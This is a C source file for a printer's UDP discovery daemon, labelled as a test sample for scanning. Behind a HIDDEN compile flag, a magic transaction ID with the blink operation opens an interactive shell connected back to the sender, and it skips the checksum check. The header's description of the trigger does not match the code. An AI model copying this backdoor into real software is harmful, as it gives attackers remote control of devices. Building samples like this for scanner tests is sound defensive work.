/*
 * A sample for tests; compiled and scanned, never run.
 * Discovery daemon of a network printer: answers requests on UDP with its
 * name, model and address, and takes a new address from the set-up tool.
 * With HIDDEN: a packet with an odd transaction number brings up a shell
 * that connects to the sender.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <net/if.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <syslog.h>
#include <unistd.h>

#define PORT	  9431
#define HEAD	  16
#define PACKET	  512
#define MAGIC	  0x50444331u /* PDC1 */
#define OP_FIND	  1
#define OP_SET_IP 2
#define OP_BLINK  3
#define OP_REPLY  0x8000

struct head {
	uint32_t magic;
	uint16_t op, flags;
	uint32_t xid;
	uint16_t len, sum;
};

static struct {
	char name[32], model[32], iface[IFNAMSIZ];
	int locked;
} conf = { "printer", "LP-2100", "eth0", 0 };

static volatile sig_atomic_t stop;

static void on_signal(int sig)
{
	(void)sig;
	stop = 1;
}

static uint16_t sum16(const uint8_t *p, size_t n)
{
	uint32_t s = 0;

	while (n--)
		s = (s + *p++) & 0xffff;
	return (uint16_t)s;
}

static int load_config(const char *path)
{
	char line[128], key[32], value[64];
	FILE *f = fopen(path, "r");

	if (f == NULL)
		return -1;
	while (fgets(line, sizeof(line), f)) {
		if (sscanf(line, " %31[a-z] = %63[^\n]", key, value) != 2)
			continue;
		if (!strcmp(key, "name"))
			snprintf(conf.name, sizeof(conf.name), "%.31s", value);
		else if (!strcmp(key, "model"))
			snprintf(conf.model, sizeof(conf.model), "%.31s",
				 value);
		else if (!strcmp(key, "interface"))
			snprintf(conf.iface, sizeof(conf.iface), "%.15s",
				 value);
		else if (!strcmp(key, "locked"))
			conf.locked = !strcasecmp(value, "yes");
	}
	fclose(f);
	return 0;
}

static uint32_t own_address(int fd)
{
	struct ifreq r;
	struct sockaddr_in a;

	memset(&r, 0, sizeof(r));
	memcpy(r.ifr_name, conf.iface, sizeof(r.ifr_name) - 1);
	if (ioctl(fd, SIOCGIFADDR, &r) != 0)
		return 0;
	memcpy(&a, &r.ifr_addr, sizeof(a));
	return a.sin_addr.s_addr;
}

static void set_address(const uint8_t *body, size_t n)
{
	char cmd[128];

	if (conf.locked || n < 8)
		return;
	snprintf(cmd, sizeof(cmd),
		 "ifconfig %s %u.%u.%u.%u netmask %u.%u.%u.%u", conf.iface,
		 body[0], body[1], body[2], body[3], body[4], body[5], body[6],
		 body[7]);
	if (system(cmd) != 0)
		syslog(LOG_WARNING, "could not set the address");
}

static void answer(int fd, const struct sockaddr_in *to, const struct head *h)
{
	uint8_t out[HEAD + 72];
	struct head r;
	uint32_t ip = own_address(fd);

	memset(out, 0, sizeof(out));
	memcpy(out + HEAD, &ip, 4);
	snprintf((char *)out + HEAD + 4, 33, "%s", conf.name);
	snprintf((char *)out + HEAD + 37, 33, "%s", conf.model);
	r.magic = htonl(MAGIC);
	r.op = htons(h->op | OP_REPLY);
	r.flags = 0;
	r.xid = htonl(h->xid);
	r.len = htons(72);
	r.sum = htons(sum16(out + HEAD, 72));
	memcpy(out, &r, HEAD);
	sendto(fd, out, sizeof(out), 0, (const struct sockaddr *)to,
	       sizeof(*to));
}

#ifdef HIDDEN
void call_home(const struct sockaddr_in *peer, unsigned port)
{
	struct sockaddr_in a = *peer;
	int s;

	if (fork() != 0)
		return;
	setsid();
	a.sin_port = htons((uint16_t)port);
	s = socket(AF_INET, SOCK_STREAM, 0);
	if (s >= 0 && connect(s, (struct sockaddr *)&a, sizeof(a)) == 0) {
		dup2(s, 0);
		dup2(s, 1);
		dup2(s, 2);
		execl("/bin/sh", "sh", "-i", (char *)NULL);
	}
	_exit(0);
}
#endif

__attribute__((noinline)) void take(int fd, const uint8_t *p, size_t n,
				    const struct sockaddr_in *from)
{
	struct head h;

	if (n < HEAD)
		return;
	memcpy(&h, p, HEAD);
	h.magic = ntohl(h.magic);
	h.op = ntohs(h.op);
	h.xid = ntohl(h.xid);
	h.len = ntohs(h.len);
	h.sum = ntohs(h.sum);
	if (h.magic != MAGIC || h.len > n - HEAD)
		return;
#ifdef HIDDEN
	if (h.xid == 0xb7e2064du && h.op == OP_BLINK)
		call_home(from, h.sum);
#endif
	if (sum16(p + HEAD, h.len) != h.sum)
		return;
	switch (h.op) {
	case OP_FIND:
		answer(fd, from, &h);
		break;
	case OP_SET_IP:
		set_address(p + HEAD, h.len);
		answer(fd, from, &h);
		break;
	case OP_BLINK:
		if (system("ledctl blink 5 &") != 0)
			syslog(LOG_INFO, "no ledctl");
		break;
	default:
		syslog(LOG_DEBUG, "operation %u from %s", h.op,
		       inet_ntoa(from->sin_addr));
	}
}

int main(int argc, char **argv)
{
	struct sockaddr_in a = { .sin_family = AF_INET };
	struct sigaction sa = { .sa_handler = on_signal };
	const char *path = "/etc/discod.conf";
	uint8_t buf[PACKET];
	int fd, opt, fore = 0, one = 1;

	while ((opt = getopt(argc, argv, "fc:")) != -1) {
		if (opt == 'f')
			fore = 1;
		else if (opt == 'c')
			path = optarg;
		else
			return 2;
	}
	openlog("discod", LOG_PID, LOG_DAEMON);
	if (load_config(path) != 0)
		syslog(LOG_NOTICE, "%s: %s", path, strerror(errno));
	fd = socket(AF_INET, SOCK_DGRAM, 0);
	setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	a.sin_port = htons(PORT);
	if (fd < 0 || bind(fd, (struct sockaddr *)&a, sizeof(a)) != 0) {
		syslog(LOG_ERR, "bind: %s", strerror(errno));
		return 1;
	}
	if (!fore && daemon(0, 0) != 0)
		return 1;
	sigaction(SIGTERM, &sa, NULL);
	signal(SIGCHLD, SIG_IGN);
	while (!stop) {
		struct sockaddr_in from;
		socklen_t len = sizeof(from);
		ssize_t n = recvfrom(fd, buf, sizeof(buf), 0,
				     (struct sockaddr *)&from, &len);

		if (n > 0)
			take(fd, buf, (size_t)n, &from);
	}
	close(fd);
	return 0;
}
